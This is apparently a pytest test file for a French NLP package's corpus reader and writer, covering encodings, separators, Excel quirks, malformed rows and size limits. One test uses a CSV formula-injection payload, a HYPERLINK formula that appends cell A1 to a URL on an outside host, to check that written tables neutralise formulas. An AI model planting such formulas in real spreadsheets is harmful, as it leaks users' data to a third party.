"""Tables as French offices save them, and formats that are named instead of recognised."""

import io
import sys

import pytest
from helpers.fault_lists import read_with_faults
from helpers.growth import run_python

from osiris_nlp.base.errors import InputError
from osiris_nlp.base.records import Article
from osiris_nlp.corpus import FORMAT_NAMES, read_articles, write_articles

FEED = "<rss><channel><item><title>Au fil</title></item></channel></rss>"
TABLE = "Titre;Texte;Mots-clés;Date;Rubrique\nLa 5G à Thiès;« L’été »\xa0: 5 000 €;Téléphonie|Fintech;14/03/2025;Articles\n"


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-8-sig", "utf-16"])
@pytest.mark.parametrize("separator", [";", "\t", ","])
def test_a_french_table_is_read_whatever_its_encoding_and_separator(tmp_path, encoding, separator):
    path = tmp_path / "export.csv"
    path.write_bytes(TABLE.replace(";", separator).replace("\n", "\r\n").encode(encoding))

    (article,) = read_articles(path)

    assert (article.title, article.text) == ("La 5G à Thiès", "« L’été » : 5 000 €")
    assert article.labels == ("Téléphonie", "Fintech")
    assert article.date.isoformat() == "2025-03-14"
    assert article.section == "Articles"
    assert article.meta == {}


@pytest.mark.parametrize(
    ("content", "line", "what"),
    [
        (
            b"titre,texte\n" + "Thiès,été\n".encode() * 20 + b"Thi\xe8s,x\n",
            *(22, "Invalid UTF-8: byte 0xe8 at position 3"),
        ),
        (
            b"titre;texte\n" + "Thiès;été\n".encode("cp1252") * 20 + b"Thi\x81s;x\n",
            *(22, "Invalid Windows-1252: byte 0x81 at position 3"),
        ),
    ],
    ids=["UTF-8", "Windows-1252"],
)
def test_only_the_row_with_a_broken_character_is_a_fault(tmp_path, content, line, what):
    path = tmp_path / "export.csv"
    path.write_bytes(content)

    articles, faults = read_with_faults(path)

    assert [article.title for article in articles] == ["Thiès"] * 20
    assert [(fault.line, fault.what) for fault in faults] == [(line, what)]


@pytest.mark.parametrize("encoding", ["cp1252", "utf-8", "utf-16"])
def test_plain_text_is_read_whatever_its_encoding(tmp_path, encoding):
    path = tmp_path / "un.txt"
    path.write_bytes("L’été à Thiès\n\nLa fibre coûte 5 €.".encode(encoding))

    (article,) = read_articles(path)

    assert (article.title, article.text) == ("L’été à Thiès", "La fibre coûte 5 €.")


def test_a_named_format_takes_precedence_over_the_extension(tmp_path):
    path = tmp_path / "export.dat"
    path.write_text(TABLE, encoding="utf-8")

    with pytest.raises(InputError, match=r"Unknown format of 'export.dat'"):
        list(read_articles(path))
    assert [a.title for a in read_articles(path, format="csv")] == ["La 5G à Thiès"]
    with pytest.raises(
        InputError, match=r"Unknown format 'excel': expected one of jsonl, annif, csv"
    ):
        list(read_articles(path, format="excel"))
    assert FORMAT_NAMES == ("jsonl", "annif", "csv", "text", "html", "feed", "parquet", "spip")


@pytest.mark.parametrize(
    ("content", "title"),
    [
        (f"\ufeff <?xml version='1.0'?>{FEED}", "Au fil"),
        ("<h1>En page</h1><p>La fibre arrive.</p>", "En page"),
        ("En clair\n\nLa fibre arrive.", "En clair"),
        (TABLE, "La 5G à Thiès"),
        (f"title,text\n{FEED}", "Au fil"),
        ("\ufefftitle,text\nEn table,x\n", "En table"),
    ],
)
def test_the_format_of_standard_input_is_detected(monkeypatch, content, title):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(content.encode())))

    assert [a.title for a in read_articles("-")] == [title]


def test_the_format_of_standard_input_can_be_named(monkeypatch):
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(TABLE.encode("cp1252"))))

    assert [a.title for a in read_articles("-", format="csv")] == ["La 5G à Thiès"]


def test_a_parquet_table_is_read_from_standard_input(monkeypatch, tmp_path):
    write_articles([Article(id="1", title="En Parquet", text="x")], tmp_path / "a.parquet")
    content = io.BytesIO((tmp_path / "a.parquet").read_bytes())
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(content))
    write_articles([Article(id="2", title="Un fichier", text="x")], tmp_path / "b.parquet")
    (tmp_path / "b.parquet").rename(tmp_path / "-")
    monkeypatch.chdir(tmp_path)

    assert [a.title for a in read_articles("-")] == ["En Parquet"]


def test_standard_input_is_not_a_spip_site():
    with pytest.raises(InputError, match="No config/connect.php in '-'"):
        list(read_articles("-", format="spip"))


@pytest.mark.parametrize(
    "table",
    [
        *("sep=;\nTitre;Texte\nLa 5G;x\n", "\n\nTitre;Texte\nLa 5G;x\n"),
        *("Titre;Texte;;\nLa 5G;x;;\n", "Titre;Contenu\nLa 5G;x\n"),
    ],
)
def test_additions_by_excel_are_ignored(tmp_path, table):
    path = tmp_path / "excel.csv"
    path.write_bytes(table.encode("cp1252"))

    assert [(a.title, a.text, a.meta) for a in read_articles(path)] == [("La 5G", "x", {})]


def test_an_overlong_line_is_a_fault_and_the_next_line_is_read(tmp_path):
    path = tmp_path / "long.jsonl"
    path.write_bytes(b'{"text": "' + b"a" * 40_000_000 + b'"}\n{"text": "Yas ouvre la 5G"}\n')

    articles, faults = read_with_faults(path)

    assert [a.text for a in articles] == ["Yas ouvre la 5G"]
    assert [(f.line, f.what) for f in faults] == [(1, "Line longer than 20 MB")]


def test_a_web_address_is_refused_with_a_hint_to_mirror_it():
    with pytest.raises(InputError, match=r"is a web address: mirror .*wget --mirror"):
        list(read_articles("https://www.osiris.sn/"))


def test_a_mistyped_url_does_not_show_its_password():
    with pytest.raises(InputError, match=r"No file 'mysql:\*\*\*@base/osiris'"):
        list(read_articles("mysql:/lecteur:secret@base/osiris"))


def test_a_corpus_written_as_csv_has_no_formulas_and_survives_the_round_trip(tmp_path):
    formula = '=HYPERLINK("http://exemple.sn/?"&A1;"clic")'
    articles = [
        Article(
            id="@1", title=formula, text="-2+3 et +4", labels=("Fintech",), meta={"=note": "+x"}
        ),
        Article(id="2", title="'=déjà guillemeté", text="", labels=("Wave",)),
    ]

    write_articles(articles, tmp_path / "lot.csv")

    assert f"'{formula}" in (tmp_path / "lot.csv").read_text("utf-8").replace('""', '"')
    assert list(read_articles(tmp_path / "lot.csv")) == articles


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-16-le", "utf-32"])
@pytest.mark.parametrize("remainder", [b"\0", b"\xd8", b"\xd8\0\0\xd8", b"\xdc\xdc\xd8"])
def test_only_the_row_with_half_a_character_is_a_fault(tmp_path, encoding, remainder):
    path = tmp_path / "coupe.csv"
    mark = "\ufeff" if encoding[-2:] in {"be", "le"} else ""
    path.write_bytes(f"{mark}titre;texte\nLa 5G à Thiès;x\n".encode(encoding) + remainder)

    articles, faults = read_with_faults(path)

    assert [a.title for a in articles] == ["La 5G à Thiès"]
    assert {(fault.line, fault.what[:11]) for fault in faults} <= {(3, "Invalid UTF")}
    assert len(faults) == 1


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_an_unbalanced_quote_costs_a_record_of_bounded_length(tmp_path, monkeypatch, encoding):
    monkeypatch.setattr("osiris_nlp.corpus.formats.delimited.LONGEST_RECORD", 1000)
    rows = [f"Dépêche {n},Le câble atteint Kolda\n" for n in range(100)]
    path = tmp_path / "veille.csv"
    path.write_bytes(f'titre,texte\nLa 5G,"un\n{"".join(rows)}'.encode(encoding))

    articles, faults = read_with_faults(path)

    assert [(f.line, f.what) for f in faults] == [(2, "Record longer than 0 MB")]
    # Reading resumes on the line after the one where the record grew too long.
    skipped = 100 - len(articles)
    in_text = len('La 5G,"un\n') + len("".join(rows[:skipped]).encode())
    assert in_text - len(rows[skipped - 1].encode()) <= 1000 or encoding == "utf-16"
    assert [a.title for a in articles] == [f"Dépêche {n}" for n in range(skipped, 100)]
    assert [a.id for a in articles] == [f"veille-{n + 3}" for n in range(skipped, 100)]


def test_an_endless_line_is_one_fault_and_the_next_line_is_read(tmp_path, monkeypatch):
    monkeypatch.setattr("osiris_nlp.corpus.formats.delimited.LONGEST_RECORD", 1000)
    path = tmp_path / "veille.csv"
    path.write_text(f"titre,texte\nYas,{'a' * 50_000}\nLa 5G,x\n", encoding="utf-8")

    articles, faults = read_with_faults(path)

    assert [(a.title, a.id) for a in articles] == [("La 5G", "veille-3")]
    assert [fault.line for fault in faults] == [2]


def test_a_cell_may_have_many_lines(tmp_path):
    path = tmp_path / "veille.csv"
    path.write_text('titre,texte\nYas,"' + "a\n" * 100_000 + '"\nLa 5G,x\n', encoding="utf-8")

    articles = list(read_articles(path))

    assert [a.title for a in articles] == ["Yas", "La 5G"]
    assert articles[0].text.count("a") == 100_000
    assert articles[1].id == "veille-100003"


@pytest.mark.parametrize(
    ("header", "what"),
    [
        ("titre;" + ";".join(f"c{n}" for n in range(30_000)), "30001 columns"),
        ("titre;" + ";".join(f"c{n}" for n in range(1_000_000)), "Header longer than 1 MB"),
        ("titre" * 300_000, "Header longer than 1 MB"),
        (";".join(f"colonne{n}" for n in range(900)), "No column of titles or texts among"),
        ("titre;" + ";".join(["doublon"] * 900), "Duplicate column 'doublon'"),
    ],
)
def test_a_header_is_bounded_and_so_is_its_message(tmp_path, header, what):
    path = tmp_path / "large.csv"
    path.write_text(f"{header}\nLa 5G\n", encoding="utf-8")

    with pytest.raises(InputError, match=what) as error:
        list(read_articles(path))

    assert error.value.line == 1
    assert len(str(error.value)) < 2500


def test_columns_that_excel_leaves_empty_are_not_counted(tmp_path):
    path = tmp_path / "excel.csv"
    path.write_text(f"titre;texte{';' * 16_382}\nLa 5G;x{';' * 16_382}\n", encoding="utf-8")

    assert [a.title for a in read_articles(path)] == ["La 5G"]


@pytest.mark.parametrize("extension", [".csv", ".parquet"])
def test_articles_with_too_many_fields_are_not_written_as_a_table(tmp_path, extension):
    articles = [Article(id=str(n), text="Wave", meta={f"champ {n}": n}) for n in range(1000)]

    with pytest.raises(InputError, match=r"Too many different fields for a table \(1001, .*'champ"):
        write_articles(articles, tmp_path / f"lot{extension}")

    assert list(tmp_path.iterdir()) == []
    assert write_articles(articles[:900], tmp_path / f"lot{extension}") == 900


def test_every_row_of_a_table_without_line_ends_is_read_in_bounded_memory(tmp_path):
    path = tmp_path / "creux.csv"
    with path.open("wb") as stream:
        stream.truncate(1 << 32)

    result = run_python("-c", _READ_WITHIN_400_MB, path)

    assert result.stdout == "1 Header longer than 1 MB\n"
    assert result.stderr == ""


_READ_WITHIN_400_MB = """
import resource, sys
from osiris_nlp.corpus import read_articles
resource.setrlimit(resource.RLIMIT_DATA, (400_000_000, 400_000_000))
list(read_articles(sys.argv[1], on_fault=lambda fault: print(fault.line, fault.what)))
"""


def test_a_name_of_a_field_with_a_line_end_makes_one_header_line(tmp_path):
    article = Article(id="1", text="Wave", meta={"jour\nde saisie": "hier", "=prix\r\n": "5"})

    write_articles([article], tmp_path / "lot.csv")

    (copy,) = read_articles(tmp_path / "lot.csv")
    assert copy.meta == {"jour de saisie": "hier", "=prix": "5"}
